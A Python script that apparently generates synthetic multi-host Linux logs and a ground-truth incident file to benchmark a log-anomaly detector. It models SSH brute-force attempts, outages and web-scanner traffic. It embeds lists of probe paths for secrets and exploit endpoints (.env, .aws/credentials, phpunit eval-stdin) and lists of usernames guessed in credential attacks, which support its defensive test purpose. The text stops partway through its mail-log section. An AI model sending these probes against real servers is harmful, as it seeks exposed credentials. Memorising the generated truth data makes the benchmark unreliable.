#!/usr/bin/env python3
"""Blind replay generator #2: three days of /var/log for N hosts, incidents in day 3 only.

Written without reading LogWarden's detectors, rules or its own generators (see README.md).
Python 3 standard library only; the output is a function of --seed (and --hosts, --scale).

    python3 gen.py --out /tmp/br2 --seed 1 [--hosts 3] [--scale 1.0]

writes /tmp/br2/<host>/... (one copy of /var/log per host) and /tmp/br2/truth.json.
"""
import argparse
import gzip
import json
import math
import os
import random
from datetime import datetime, timedelta, timezone

UTC = timezone.utc
DAY0 = datetime(2026, 11, 23, tzinfo=UTC)          # Monday; days 1-2 learn, day 3 (Nov 25) test
DAYS = 3
TEST_DAY = DAY0 + timedelta(days=2)
END = DAY0 + timedelta(days=DAYS)
MON = ["Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"]
WDAY = ["Mon", "Tue", "Wed", "Thu", "Fri", "Sat", "Sun"]

# ---------------------------------------------------------------- helpers


def poisson(r, lam):
    if lam <= 0:
        return 0
    if lam > 40:
        return max(0, int(round(r.gauss(lam, math.sqrt(lam)))))
    l, k, p = math.exp(-lam), 0, 1.0
    while True:
        p *= r.random()
        if p <= l:
            return k
        k += 1


def diurnal(t, peak=15.0, low=0.18):
    """Traffic factor 0..1 by hour of day (UTC; European customers), low at night."""
    h = t.hour + t.minute / 60.0
    x = math.cos((h - peak) / 24.0 * 2 * math.pi)
    return low + (1 - low) * (x + 1) / 2


SCANNER_NETS = [45, 61, 80, 89, 91, 92, 103, 104, 107, 109, 112, 113, 116, 117, 118, 119, 121, 122, 124,
                128, 134, 138, 139, 141, 142, 143, 146, 147, 152, 157, 159, 161, 162, 164, 165, 167, 170,
                171, 175, 177, 178, 179, 181, 182, 183, 185, 186, 187, 188, 190, 191, 193, 194, 195, 197,
                200, 201, 202, 206, 209, 210, 211, 212, 213, 216, 217, 218, 219, 220, 221, 222, 223]
CLIENT_NETS = [2, 5, 31, 37, 46, 62, 77, 78, 79, 81, 82, 83, 84, 85, 86, 87, 88, 90, 93, 94, 95, 176, 188, 212, 213, 217]


def rip(r, nets=SCANNER_NETS):
    return "%d.%d.%d.%d" % (r.choice(nets), r.randint(0, 255), r.randint(0, 255), r.randint(1, 254))


INVALID_USERS = ["admin", "test", "user", "ubuntu", "oracle", "postgres", "guest", "ftpuser", "support", "pi",
                 "git", "mysql", "deploy", "dev", "jenkins", "hadoop", "minecraft", "steam", "tomcat", "nagios",
                 "user1", "test1", "administrator", "centos", "ec2-user", "debian", "vagrant", "es", "elastic",
                 "odoo", "sol", "solana", "validator", "teamspeak", "ts3", "server", "web", "www", "docker",
                 "kafka", "redis", "zabbix", "ansible", "node", "vps", "backup", "demo", "sysadmin", "student",
                 "ftp", "testuser", "www-data", "nginx", "apache", "alex", "john", "mike", "anna", "david",
                 "gpadmin", "hdfs", "spark", "gitlab", "gitlab-runner", "jira", "confluence", "wordpress", "wp",
                 "uucp", "sshd", "sftp", "sftpuser", "cisco", "huawei", "ubnt", "default", "operator", "mother",
                 "openhabian", "orangepi", "dietpi", "nvidia", "ali", "admin1", "admin2", "root1", "office"]

UA_BROWSER = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (X11; Linux x86_64; rv:132.0) Gecko/20100101 Firefox/132.0",
    "Mozilla/5.0 (Linux; Android 14; SM-S918B) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.6723.102 Mobile Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:132.0) Gecko/20100101 Firefox/132.0",
]
UA_BOT = [
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
    "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)",
    "Mozilla/5.0 (compatible; SemrushBot/7~bl; +http://www.semrush.com/bot.html)",
]
UA_SCAN = ["Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/81.0.4044.129 Safari/537.36",
           "python-requests/2.31.0", "Go-http-client/1.1", "curl/7.88.1", "zgrab/0.x",
           "Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)",
           "Mozilla/5.0 (l9scan/2.0.b3a2e7; +https://leakix.net)", "Expanse, a Palo Alto Networks company, searches across the global IPv4 space multiple times per day to identify customers' presences on the Internet. If you would like to be excluded from our scans, please send IP addresses/domains to: scaninfo@paloaltonetworks.com"]
PROBE_PATHS = ["/.env", "/.git/config", "/wp-login.php", "/wp-admin/setup-config.php", "/xmlrpc.php", "/phpmyadmin/",
               "/pma/", "/admin/config.php", "/.aws/credentials", "/config.json", "/server-status", "/actuator/env",
               "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/cgi-bin/luci/;stok=/locale", "/.DS_Store",
               "/backup.zip", "/db.sql", "/.svn/entries", "/owa/auth/logon.aspx", "/boaform/admin/formLogin",
               "/HNAP1/", "/solr/admin/info/system", "/console/", "/.vscode/sftp.json", "/info.php", "/phpinfo.php",
               "/api/.env", "/laravel/.env", "/.env.production", "/wp-content/plugins/wp-file-manager/readme.txt",
               "/geoserver/web/", "/manager/html", "/remote/login", "/_ignition/execute-solution", "/telescope/requests",
               "/.well-known/security.txt", "/sitemap.xml", "/config/database.yml", "/storage/logs/laravel.log",
               "/admin/.env", "/app/.env", "/web.config", "/.htpasswd", "/debug/default/view", "/api/v1/pods"]


class Host:
    """One host's /var/log copy: files of (sort key, line), written with rotation at the end."""

    def __init__(self, name, seed):
        self.name = name
        self.r = random.Random(seed)
        self.files = {}       # path -> list of (datetime, seq, line)
        self.rot = {}         # path -> rotation style
        self.seq = 0
        self.pid = 1000

    def add(self, path, t, line):
        self.seq += 1
        self.files.setdefault(path, []).append((t, self.seq, line))

    def newpid(self):
        self.pid += self.r.randint(1, 40)
        if self.pid > 4190000:
            self.pid = 1200
        return self.pid

    def write(self, root):
        base = os.path.join(root, self.name)
        total = 0
        for path, items in self.files.items():
            items.sort(key=lambda x: (x[0], x[1]))
            total += len(items)
            style = self.rot.get(path)
            full = os.path.join(base, path)
            os.makedirs(os.path.dirname(full), exist_ok=True)
            if style is None:
                chunks = [(full, items)]
            else:
                kind, hh, mm = style
                cuts = []
                for d in range(1, DAYS):
                    cuts.append(DAY0 + timedelta(days=d, hours=hh, minutes=mm))
                parts, cur, ci = [], [], 0
                for it in items:
                    while ci < len(cuts) and it[0] >= cuts[ci]:
                        parts.append(cur)
                        cur, ci = [], ci + 1
                    cur.append(it)
                parts.append(cur)
                while len(parts) < DAYS:
                    parts.insert(0, [])
                chunks = []
                n = len(parts)
                for i, p in enumerate(parts):
                    gen = n - 1 - i
                    if not p and gen > 0:
                        continue
                    if gen == 0:
                        chunks.append((full, p))
                    elif kind == "debian":      # delaycompress: .1 plain, older .N.gz
                        chunks.append((full + (".1" if gen == 1 else ".%d.gz" % gen), p))
                    elif kind == "dateext":     # RHEL: name-YYYYMMDD of the rotation day, uncompressed
                        chunks.append((full + "-" + cuts[i].strftime("%Y%m%d"), p))
                    elif kind == "docker":      # json-file max-file: <id>-json.log.1 ...
                        chunks.append((full + ".%d" % gen, p))
            for fpath, p in chunks:
                data = "".join(x[2] + "\n" for x in p).encode()
                if fpath.endswith(".gz"):
                    with gzip.GzipFile(fpath, "wb", mtime=0) as f:
                        f.write(data)
                else:
                    with open(fpath, "wb") as f:
                        f.write(data)
                if p:
                    ts = p[-1][0].timestamp()
                    os.utime(fpath, (ts, ts))
        return total


# ---------------------------------------------------------------- line formats

def iso6(t):      # Debian 13 rsyslog RSYSLOG_FileFormat
    return t.strftime("%Y-%m-%dT%H:%M:%S.") + "%06d+00:00" % t.microsecond


def bsd(t):       # RSYSLOG_TraditionalFileFormat
    return "%s %2d %s" % (MON[t.month - 1], t.day, t.strftime("%H:%M:%S"))


def clf(t):
    return t.strftime("%d/") + MON[t.month - 1] + t.strftime("/%Y:%H:%M:%S +0000")


def apache_err_ts(t):
    return "%s %s %02d %s.%06d %d" % (WDAY[t.weekday()], MON[t.month - 1], t.day, t.strftime("%H:%M:%S"), t.microsecond, t.year)


def mariadb_ts(t):
    return "%04d-%02d-%02d %2d:%02d:%02d" % (t.year, t.month, t.day, t.hour, t.minute, t.second)


def mysql8_ts(t):
    return t.strftime("%Y-%m-%dT%H:%M:%S.") + "%06dZ" % t.microsecond


def rfc3339n(t, r):
    return t.strftime("%Y-%m-%dT%H:%M:%S.") + "%06d%03dZ" % (t.microsecond, r.randint(0, 999))


def sec(x):
    return timedelta(seconds=x)


def minutes_of(day_from, day_to):
    t = day_from
    while t < day_to:
        yield t
        t += timedelta(minutes=1)


# ---------------------------------------------------------------- shared background pieces

class Syslog:
    """rsyslog-style writer: fmt 'iso' (Debian 13) or 'bsd' (RHEL 9 / traditional)."""

    def __init__(self, h, fmt):
        self.h, self.fmt = h, fmt

    def line(self, t, prog, msg, pid=None):
        ts = iso6(t) if self.fmt == "iso" else bsd(t)
        p = prog if pid is None else "%s[%d]" % (prog, pid)
        return "%s %s %s: %s" % (ts, self.h.name, p, msg)


def ssh_session_lines(r, ip, users, t, valid_users, sp=None):
    """One scanner connection: a few guesses. Returns list of (t, msg, pid)."""
    out = []
    pid = r.randint(20000, 990000)
    port = r.randint(1025, 65000)
    kind = r.random()
    if kind < 0.12:
        out.append((t, "error: kex_exchange_identification: read: Connection reset by peer", pid))
        out.append((t, "Connection reset by %s port %d" % (ip, port), pid))
        return out
    if kind < 0.18:
        out.append((t, "banner exchange: Connection from %s port %d: invalid format" % (ip, port), pid))
        return out
    for u in users:
        t = t + sec(r.uniform(0.5, 4))
        if u in valid_users:
            out.append((t, "Failed password for %s from %s port %d ssh2" % (u, ip, port), pid))
        else:
            out.append((t, "Invalid user %s from %s port %d" % (u, ip, port), pid))
            t = t + sec(r.uniform(0.3, 2.5))
            out.append((t, "Failed password for invalid user %s from %s port %d ssh2" % (u, ip, port), pid))
    t = t + sec(r.uniform(0.2, 2))
    u = users[-1]
    if u in valid_users:
        if len(users) >= 3 and r.random() < 0.5:
            out.append((t, "error: maximum authentication attempts exceeded for %s from %s port %d ssh2 [preauth]" % (u, ip, port), pid))
            out.append((t, "Disconnecting authenticating user %s %s port %d: Too many authentication failures [preauth]" % (u, ip, port), pid))
        else:
            out.append((t, "Connection closed by authenticating user %s %s port %d [preauth]" % (u, ip, port), pid))
    else:
        out.append((t, "Received disconnect from %s port %d:11: Bye Bye [preauth]" % (ip, port), pid))
        out.append((t, "Disconnected from invalid user %s %s port %d [preauth]" % (u, ip, port), pid))
    return out


def ssh_background(h, emit, valid_users, per_day=(900, 1600), heavy=True, t_from=DAY0, t_to=END):
    """The internet's constant SSH noise. emit(t, prog, msg, pid)."""
    r = h.r
    for m in minutes_of(t_from, t_to):
        lam = r.uniform(*per_day) / 1440.0 / 2.2
        for _ in range(poisson(r, lam)):
            ip = rip(r)
            t = m + sec(r.uniform(0, 59))
            n = r.choice([1, 1, 1, 2, 2, 3, 4, 6])
            users = ["root"] * n if r.random() < 0.45 else [r.choice(INVALID_USERS) for _ in range(n)]
            for (tt, msg, pid) in ssh_session_lines(r, ip, users, t, valid_users):
                emit(tt, "sshd", msg, pid)
    if heavy:
        # a persistent slow scanner each day (about one guess a minute for 1-3 hours): background, not an incident
        for d in range(DAYS):
            ip = rip(r)
            t = DAY0 + timedelta(days=d, hours=r.uniform(0, 20))
            for _ in range(r.randint(50, 160)):
                t += sec(r.uniform(35, 90))
                users = [r.choice(["root", "root", r.choice(INVALID_USERS)])]
                for (tt, msg, pid) in ssh_session_lines(r, ip, users, t, valid_users):
                    emit(tt, "sshd", msg, pid)


def ssh_brute(h, emit, ip, t, n, valid_users, users, per_min=30):
    r = h.r
    lines = 0
    while lines < n:
        k = r.randint(3, 6)
        us = [r.choice(users) for _ in range(k)]
        for (tt, msg, pid) in ssh_session_lines(r, ip, us, t, valid_users):
            emit(tt, "sshd", msg, pid)
        lines += k
        t += sec(60.0 * k / per_min * r.uniform(0.7, 1.3))
    return t


def ssh_login(h, emit, t, user, ip, method="publickey", fails=0, key="ED25519 SHA256:"):
    r = h.r
    pid = r.randint(20000, 990000)
    port = r.randint(30000, 65000)
    for i in range(fails):
        emit(t, "sshd", "Failed password for %s from %s port %d ssh2" % (user, ip, port), pid)
        t += sec(r.uniform(2, 6))
    if method == "publickey":
        emit(t, "sshd", "Accepted publickey for %s from %s port %d ssh2: %s%s" % (user, ip, port, key, "".join(r.choice("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/") for _ in range(43))), pid)
    else:
        emit(t, "sshd", "Accepted password for %s from %s port %d ssh2" % (user, ip, port), pid)
    emit(t, "sshd", "pam_unix(sshd:session): session opened for user %s(uid=%d) by %s(uid=0)" % (user, 1000 + len(user), user), pid)
    sess = r.randint(100, 9000)
    emit(t + sec(0.05), "systemd-logind", "New session %d of user %s." % (sess, user), 712)
    dur = sec(r.uniform(60, 2400))
    emit(t + dur, "sshd", "Received disconnect from %s port %d:11: disconnected by user" % (ip, port), pid)
    emit(t + dur, "sshd", "Disconnected from user %s %s port %d" % (user, ip, port), pid)
    emit(t + dur, "sshd", "pam_unix(sshd:session): session closed for user %s" % user, pid)
    emit(t + dur + sec(0.02), "systemd-logind", "Session %d logged out. Waiting for processes to exit." % sess, 712)
    emit(t + dur + sec(0.03), "systemd-logind", "Removed session %d." % sess, 712)
    return t


def sudo_line(h, emit, t, user, cmd, pwd, ok=True, tty="pts/0"):
    pid = h.r.randint(20000, 990000)
    if ok:
        emit(t, "sudo", "%8s : TTY=%s ; PWD=%s ; USER=root ; COMMAND=%s" % (user, tty, pwd, cmd), pid)
        emit(t, "sudo", "pam_unix(sudo:session): session opened for user root(uid=0) by %s(uid=%d)" % (user, 1000 + len(user)), pid)
        emit(t + sec(h.r.uniform(0.2, 30)), "sudo", "pam_unix(sudo:session): session closed for user root", pid)
    else:
        emit(t, "sudo", "%8s : user NOT in sudoers ; TTY=%s ; PWD=%s ; USER=root ; COMMAND=%s" % (user, tty, pwd, cmd), pid)


def access_line(ip, t, method, path, status, size, ref, ua, user="-"):
    return '%s - %s [%s] "%s %s HTTP/1.1" %d %s "%s" "%s"' % (ip, user, clf(t), method, path, status, size if size else "-", ref, ua)


def kernel_oom(r, t, proc, pid, unit_path, rss_kb, uptime):
    lines = []
    trig = r.choice(["php-fpm8.2", proc, "kworker/u4:1"])
    lines.append((t, "%s invoked oom-killer: gfp_mask=0x140cca(GFP_HIGHUSER_MOVABLE|__GFP_COMP), order=0, oom_score_adj=0" % trig))
    lines.append((t, "CPU: 1 PID: %d Comm: %s Not tainted 6.1.0-27-amd64 #1  Debian 6.1.115-1" % (pid + 3, trig)))
    lines.append((t, "Hardware name: QEMU Standard PC (i440FX + PIIX, 1996), BIOS rel-1.16.3-0-ga6ed6b701f0a-prebuilt.qemu.org 04/01/2014"))
    lines.append((t, "Call Trace:"))
    for fn in ["<TASK>", "dump_stack_lvl+0x44/0x5c", "dump_header+0x4a/0x211", "oom_kill_process.cold+0xb/0x10",
               "out_of_memory+0x1ed/0x2e0", "__alloc_pages_slowpath.constprop.0+0xcb1/0xe30", "__alloc_pages+0x305/0x330",
               "folio_alloc+0x17/0x50", "__filemap_get_folio+0x155/0x340", "filemap_fault+0x139/0x910", "__do_fault+0x33/0x130",
               "do_fault+0x1d2/0x430", "__handle_mm_fault+0x66b/0xf00", "handle_mm_fault+0xdb/0x2d0", "do_user_addr_fault+0x191/0x570",
               "exc_page_fault+0x70/0x170", "asm_exc_page_fault+0x22/0x30", "</TASK>"]:
        lines.append((t, " " + fn))
    lines.append((t, "Mem-Info:"))
    lines.append((t, "active_anon:%d inactive_anon:%d isolated_anon:0" % (r.randint(300000, 400000), r.randint(50000, 90000))))
    lines.append((t, "Tasks state (memory values in pages):"))
    lines.append((t, "[  pid  ]   uid  tgid total_vm      rss pgtables_bytes swapents oom_score_adj name"))
    for (p, n) in [(312, "systemd-journal"), (701, "cron"), (pid, proc), (pid + 3, trig)]:
        lines.append((t, "[%7d] %5d %7d %8d %8d %14d %8d %13d %s" % (p, r.choice([0, 33, 106]), p, r.randint(5000, 900000), r.randint(400, 300000), r.randint(60000, 3000000), 0, 0, n)))
    lines.append((t, "oom-kill:constraint=CONSTRAINT_NONE,nodemask=(null),cpuset=/,mems_allowed=0,global_oom,task_memcg=%s,task=%s,pid=%d,uid=%d" % (unit_path, proc, pid, 106)))
    lines.append((t, "Out of memory: Killed process %d (%s) total-vm:%dkB, anon-rss:%dkB, file-rss:0kB, shmem-rss:0kB, UID:106 pgtables:%dkB oom_score_adj:0" % (pid, proc, rss_kb * 2, rss_kb, rss_kb // 500)))
    return lines


# ---------------------------------------------------------------- truth

class Truth:
    def __init__(self):
        self.items = []

    def add(self, host, kind, start, required, related=None, end=None, pre=None, note=""):
        rel = dict(related or {})
        for k, v in required.items():
            rel.setdefault(k, v)
        self.items.append({
            "id": "%s-%02d" % (host, sum(1 for x in self.items if x["host"] == host) + 1),
            "host": host, "kind": kind,
            "start": start.strftime("%Y-%m-%dT%H:%M:%S.%f")[:-3] + "Z",
            "end": (end or start).strftime("%Y-%m-%dT%H:%M:%S.%f")[:-3] + "Z",
            "pre": (pre or start).strftime("%Y-%m-%dT%H:%M:%S.%f")[:-3] + "Z",
            "required": required, "related": rel, "note": note})


JITTER = {"seed": 1, "host": ""}


def at(h, m, s=0):
    """Day-3 time of an incident. Seed 1 keeps the nominal times of README.md; other seeds shift each
    (host, hour) by up to +-25 min, the same shift for every at() of that hour so windows stay whole."""
    off = 0
    if JITTER["seed"] != 1:
        off = random.Random("%d/%s/%d" % (JITTER["seed"], JITTER["host"], h)).randint(-25 * 60, 25 * 60)
    return TEST_DAY + timedelta(hours=h, minutes=m, seconds=s + off)


# ---------------------------------------------------------------- host A: Debian 13, Apache + php-fpm + MariaDB + Exim

def host_apache_mariadb(name, seed, truth, scale):
    h = Host(name, seed)
    r = h.r
    sl = Syslog(h, "iso")
    for p in ["syslog", "apache2/access.log", "apache2/error.log", "mysql/error.log", "exim4/mainlog"]:
        h.rot[p] = ("debian", 0, 0)

    def auth(t, prog, msg, pid=None):
        h.add("auth.log", t, sl.line(t, prog, msg, pid))

    def syslog(t, prog, msg, pid=None):
        h.add("syslog", t, sl.line(t, prog, msg, pid))

    def kern(t, msg):
        h.add("kern.log", t, sl.line(t, "kernel", msg))
        h.add("syslog", t, sl.line(t, "kernel", msg))

    def mdb(t, tid, level, msg):
        h.add("mysql/error.log", t, "%s %d [%s] %s" % (mariadb_ts(t), tid, level, msg))

    def aerr(t, mod, level, msg, client=None, pid=None):
        pid = pid or r.randint(1100, 1900)
        c = " [client %s:%d]" % (client, r.randint(1025, 65000)) if client else ""
        h.add("apache2/error.log", t, "[%s] [%s:%s] [pid %d:tid %d]%s %s" % (apache_err_ts(t), mod, level, pid, 139900000000000 + r.randint(0, 99999999), c, msg))

    def acc(t, ip, method, path, status, size, ref="-", ua=None, dur=0.0, user="-"):
        # Apache logs the request's start time, written when it ends: slight disorder.
        h.add("apache2/access.log", t + sec(dur), access_line(ip, t, method, path, status, size, ref, ua or r.choice(UA_BROWSER), user))

    valid = {"root", "alice", "deploy", "jenkins", "backup"}
    ssh_background(h, auth, valid, per_day=(1100, 1900))
    # ---- web traffic: a PHP shop
    pages = ["/", "/", "/", "/shop/", "/shop/category/shoes", "/shop/category/bags", "/shop/product/%d", "/cart", "/search?q=%s",
             "/account/login", "/blog/", "/blog/%d-winter-sale", "/contact"]
    assets = ["/static/css/app.%s.css", "/static/js/app.%s.js", "/static/img/logo.svg", "/favicon.ico", "/static/img/p/%d.webp"]
    base_rate = 28.0 * scale                                     # page views per minute at peak
    outage = (at(14, 20), at(14, 24, 30))
    for m in minutes_of(DAY0, END):
        f = diurnal(m)
        for _ in range(poisson(r, base_rate * f)):
            t = m + sec(r.uniform(0, 60))
            ip = rip(r, CLIENT_NETS)
            ua = r.choice(UA_BROWSER)
            pth = r.choice(pages)
            if "%d" in pth:
                pth = pth % r.randint(10, 4000)
            elif "%s" in pth:
                pth = pth % r.choice(["boots", "red+bag", "gift", "sale", "wallet"])
            st = 200
            if outage[0] <= t < outage[1] and r.random() < 0.75:
                st = r.choice([503, 503, 503, 500, 504])
                aerr(t + sec(r.uniform(0, 2)), "proxy_fcgi", "error", "(70007)The timeout specified has expired: AH01075: Error dispatching request to : (polling)", ip)
            elif r.random() < 0.004:
                st = 500
            elif r.random() < 0.02:
                st = 404
            acc(t, ip, "GET", pth, st, r.randint(6000, 60000) if st == 200 else r.randint(200, 600), "https://shop.example-boutique.eu/", ua, r.uniform(0.01, 0.8))
            if st == 200:
                for _ in range(r.randint(1, 5)):
                    a = r.choice(assets)
                    a = a % (r.choice(["3f9a1c", "b71e02"]) if "%s" in a else r.randint(1, 900)) if "%" in a else a
                    acc(t + sec(r.uniform(0.1, 1.5)), ip, "GET", a, r.choice([200, 200, 200, 304]), r.randint(300, 90000), "https://shop.example-boutique.eu" + pth, ua, r.uniform(0.0, 0.05))
            if pth == "/account/login" and r.random() < 0.3:
                acc(t + sec(r.uniform(5, 40)), ip, "POST", "/account/login", r.choice([302, 302, 200]), 512, "https://shop.example-boutique.eu/account/login", ua, 0.2)
            if r.random() < 0.01:
                aerr(t, "php", "warn", 'PHP Warning:  Undefined array key "ref" in /var/www/shop/src/Controller/Tracking.php on line 88', ip)
        # bots
        for _ in range(poisson(r, 1.2)):
            t = m + sec(r.uniform(0, 60))
            acc(t, rip(r, [66, 157, 207, 40, 52]), "GET", r.choice(["/shop/product/%d" % r.randint(10, 4000), "/blog/", "/robots.txt", "/sitemap.xml"]), 200, r.randint(2000, 40000), "-", r.choice(UA_BOT), 0.1)
        # uptime monitor and the balancer's health check
        acc(m + sec(7), "5.161.99.10", "GET", "/healthz", 200, 2, "-", "Uptime-Kuma/1.23.13", 0.003)
        if m.minute % 5 == 0:
            acc(m + sec(1), "127.0.0.1", "GET", "/server-status?auto", 403, 199, "-", "Munin", 0.001)
            aerr(m + sec(1), "authz_core", "error", "AH01630: client denied by server configuration: /var/www/html/server-status", "127.0.0.1")
        # web scanners of the background: a few probes each
        if r.random() < 0.035:
            ip, ua = rip(r), r.choice(UA_SCAN)
            t = m + sec(r.uniform(0, 50))
            for pth in r.sample(PROBE_PATHS, r.randint(1, 5)):
                t += sec(r.uniform(0.2, 3))
                acc(t, ip, r.choice(["GET", "GET", "POST"]), pth, r.choice([404, 404, 404, 403, 301]), 196, "-", ua, 0.01)
        if r.random() < 0.01:
            acc(m + sec(r.uniform(0, 59)), rip(r), "GET", "/", 400, 226, "-", "-", 0.0)

    # ---- php-fpm pool warnings at the evening peak (normal here)
    for d in range(DAYS):
        for _ in range(r.randint(2, 6)):
            t = DAY0 + timedelta(days=d, hours=r.uniform(17, 21))
            h.add("php8.2-fpm.log", t, "[%02d-%s-%d %s] WARNING: [pool www] server reached pm.max_children setting (20), consider raising it" % (t.day, MON[t.month - 1], t.year, t.strftime("%H:%M:%S")))
    t = outage[0] - sec(20)
    h.add("php8.2-fpm.log", t, "[%02d-%s-%d %s] WARNING: [pool www] server reached pm.max_children setting (20), consider raising it" % (t.day, MON[t.month - 1], t.year, t.strftime("%H:%M:%S")))
    for k in range(8):
        t = outage[0] + sec(10 + 30 * k)
        h.add("php8.2-fpm.log", t, "[%02d-%s-%d %s] WARNING: [pool www] child %d, script '/var/www/shop/public/index.php' (request: \"GET /index.php\") executing too slow (31.2 sec), logging" % (t.day, MON[t.month - 1], t.year, t.strftime("%H:%M:%S"), 3000 + k))
    truth.add(name, "http-5xx-burst", outage[0], {}, {"unit": "php8.2-fpm.service"}, end=outage[1],
              note="php-fpm saturated: ~75% of requests 503/500/504 for 4.5 min, proxy_fcgi AH01075 in error.log")

    # ---- MariaDB: nightly restart by a maintenance script, aborted connections, a benign startup [ERROR]
    for d in range(DAYS):
        t = DAY0 + timedelta(days=d, hours=3, minutes=10, seconds=r.randint(0, 40))
        syslog(t, "systemd", "Stopping mariadb.service - MariaDB 10.11.6 database server...", 1)
        mdb(t, 0, "Note", "/usr/sbin/mariadbd (initiated by: unknown): Normal shutdown")
        mdb(t + sec(1), 0, "Note", "InnoDB: FTS optimize thread exiting.")
        mdb(t + sec(1), 0, "Note", "InnoDB: Starting shutdown...")
        mdb(t + sec(2), 0, "Note", "InnoDB: Shutdown completed; log sequence number %d; transaction id %d" % (r.randint(10 ** 9, 10 ** 10), r.randint(10 ** 6, 10 ** 7)))
        mdb(t + sec(2), 0, "Note", "/usr/sbin/mariadbd: Shutdown complete")
        syslog(t + sec(3), "systemd", "mariadb.service: Deactivated successfully.", 1)
        syslog(t + sec(3), "systemd", "Stopped mariadb.service - MariaDB 10.11.6 database server.", 1)
        syslog(t + sec(3), "systemd", "Starting mariadb.service - MariaDB 10.11.6 database server...", 1)
        t2 = t + sec(4)
        for msg in ["Starting MariaDB 10.11.6-MariaDB-0+deb12u1 source revision fecd78b83785d5ae96f2c6ff340375be803cd299 as process %d" % (8000 + d * 17),
                    "InnoDB: Compressed tables use zlib 1.2.13", "InnoDB: Number of transaction pools: 1",
                    "InnoDB: Using crc32 + pclmulqdq instructions", "InnoDB: Using liburing",
                    "InnoDB: Initializing buffer pool, total size = 512.000MiB, chunk size = 8.000MiB",
                    "InnoDB: Completed initialization of buffer pool", "InnoDB: 128 rollback segments are active.",
                    "InnoDB: log sequence number %d; transaction id %d" % (r.randint(10 ** 9, 10 ** 10), r.randint(10 ** 6, 10 ** 7)),
                    "InnoDB: Loading buffer pool(s) from /var/lib/mysql/ib_buffer_pool", "Plugin 'FEEDBACK' is disabled."]:
            mdb(t2, 0, "Note", msg)
        mdb(t2 + sec(1), 0, "ERROR", "Incorrect definition of table mysql.event: expected column 'sql_mode' at position 14 to have type set('REAL_AS_FLOAT','PIPES_AS_CONCAT','ANSI_QUOTES','IGNORE_SPACE','IGNORE_BAD_TABLE_OPTIONS','ONLY_FULL_GROUP_BY','NO_UNSIGNED_SUBTRACTION','NO_DIR_IN_CREATE','POSTGRESQL','ORACLE','MSSQL','DB2','MAXDB','NO_KEY_OPTIONS','NO_TABLE_OPTIONS','NO_FIELD_OPTIONS','MYSQL323','MYSQL40','ANSI','NO_AUTO_VALUE_ON_ZERO','NO_BACKSLASH_ESCAPES','STRICT_TRANS_TABLES','STRICT_ALL_TABLES','NO_ZERO_IN_DATE','NO_ZERO_DATE','INVALID_DATES','ERROR_FOR_DIVISION_BY_ZERO','TRADITIONAL','NO_AUTO_CREATE_USER','HIGH_NOT_PRECEDENCE','NO_ENGINE_SUBSTITUTION','PAD_CHAR_TO_FULL_LENGTH','EMPTY_STRING_IS_NULL','SIMULTANEOUS_ASSIGNMENT','TIME_ROUND_FRACTIONAL'), found type set('REAL_AS_FLOAT','PIPES_AS_CONCAT','ANSI_QUOTES','IGNORE_SPACE','IGNORE_BAD_TABLE_OPTIONS','ONLY_FULL_GROUP_BY','NO_UNSIGNED_SUBTRACTION','NO_DIR_IN_CREATE','POSTGRESQL','ORACLE','MSSQL','DB2','MAXDB','NO_KEY_OPTIONS','NO_TABLE_OPTIONS','NO_FIELD_OPTIONS','MYSQL323','MYSQL40','ANSI','NO_AUTO_VALUE_ON_ZERO','NO_BACKSLASH_ESCAPES','STRICT_TRANS_TABLES','STRICT_ALL_TABLES','NO_ZERO_IN_DATE','NO_ZERO_DATE','INVALID_DATES','ERROR_FOR_DIVISION_BY_ZERO','TRADITIONAL','NO_AUTO_CREATE_USER','HIGH_NOT_PRECEDENCE','NO_ENGINE_SUBSTITUTION','PAD_CHAR_TO_FULL_LENGTH','EMPTY_STRING_IS_NULL','SIMULTANEOUS_ASSIGNMENT')")
        mdb(t2 + sec(1), 0, "ERROR", "mariadbd: Event Scheduler: An error occurred when initializing system tables. Disabling the Event Scheduler.")
        mdb(t2 + sec(1), 0, "Note", "Server socket created on IP: '127.0.0.1'.")
        mdb(t2 + sec(1), 0, "Note", "/usr/sbin/mariadbd: ready for connections.")
        mdb(t2 + sec(1), 0, "Note", "Version: '10.11.6-MariaDB-0+deb12u1'  socket: '/run/mysqld/mysqld.sock'  port: 3306  Debian 12")
        syslog(t2 + sec(2), "systemd", "Started mariadb.service - MariaDB 10.11.6 database server.", 1)
        mdb(t2 + sec(3), 0, "Note", "InnoDB: Buffer pool(s) load completed at %s" % t2.strftime("%y%m%d %H:%M:%S").replace(" 0", "  "))
    spike = (at(21, 40), at(21, 52))
    tid = 100
    for m in minutes_of(DAY0, END):
        lam = 0.09 * (0.5 + diurnal(m))
        if spike[0] <= m < spike[1]:
            lam = 14.0
        for _ in range(poisson(r, lam)):
            tid += r.randint(1, 30)
            mdb(m + sec(r.uniform(0, 60)), tid, "Warning", "Aborted connection %d to db: 'shop' user: 'shop' host: 'localhost' (Got an error reading communication packets)" % tid)
    truth.add(name, "spike-normal-line", spike[0], {}, end=spike[1],
              note="MariaDB 'Aborted connection ... (Got an error reading communication packets)': ~6/h normally, ~14/min for 12 min")

    # ---- mail: Exim, background spam and a few password sprays; one concentrated attack on day 3
    def exim(t, msg):
        h.add("exim4/mainlog", t, "%s %s" % (t.strftime("%Y-%m-%d %H:%M:%S"), msg))

